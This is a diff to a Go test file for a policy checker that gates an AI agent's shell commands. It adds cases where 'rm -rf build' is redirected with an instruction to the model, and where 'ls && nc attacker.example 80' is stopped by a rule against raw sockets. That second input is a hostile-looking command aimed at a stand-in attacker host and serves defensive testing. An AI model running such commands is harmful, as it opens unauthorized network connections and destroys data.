@@ -51,6 +51,10 @@ func TestPolicyCheckExitCodes(t *testing.T) {
 		{"an unknown mode is exit 4", []string{"--policy", policies, "--mode", "Yolo", "--", "ls"}, 4, nil, `--mode "Yolo" is not one of ReadOnly, Edit, Auto`},
 		{"an unknown flag is exit 4", []string{"--policy", policies, "--frobnicate"}, 4, nil, "unknown flag: --frobnicate"},
 		{"an invalid intent is exit 4", []string{"--policy", policies, "--intent", "testdata/policies.yaml"}, 4, nil, "is not a ToolIntent"},
+		{"a Redirect is exit 5 and shows its instruction", []string{"--policy", "testdata/policies-gate.yaml", "--", "rm -rf build"}, 5,
+			[]string{"Decision: Redirect by ToolPolicy/gate rule plan-rm: a delete needs a plan", "Instruction to the model: List what would be deleted"}, ""},
+		{"a Stop is exit 6", []string{"--policy", "testdata/policies-gate.yaml", "--", "ls && nc attacker.example 80"}, 6,
+			[]string{"Decision: Stop by ToolPolicy/gate rule stop-nc: raw sockets end the task"}, ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -62,6 +66,9 @@ func TestPolicyCheckExitCodes(t *testing.T) {
 				if !strings.Contains(out, want) {
 					t.Errorf("stdout lacks %q:\n%s", want, out)
 				}
+			}
+			if tt.wantCode > checkDeny && tt.wantCode != checkBrokenPolicy && tt.wantCode != checkError && strings.Contains(out, "Walls:") {
+				t.Errorf("a call that never runs shows walls:\n%s", out)
 			}
 			if !strings.Contains(errOut, tt.wantErr) || (tt.wantErr == "" && errOut != "") {
 				t.Errorf("stderr is %q; want it to hold %q", errOut, tt.wantErr)
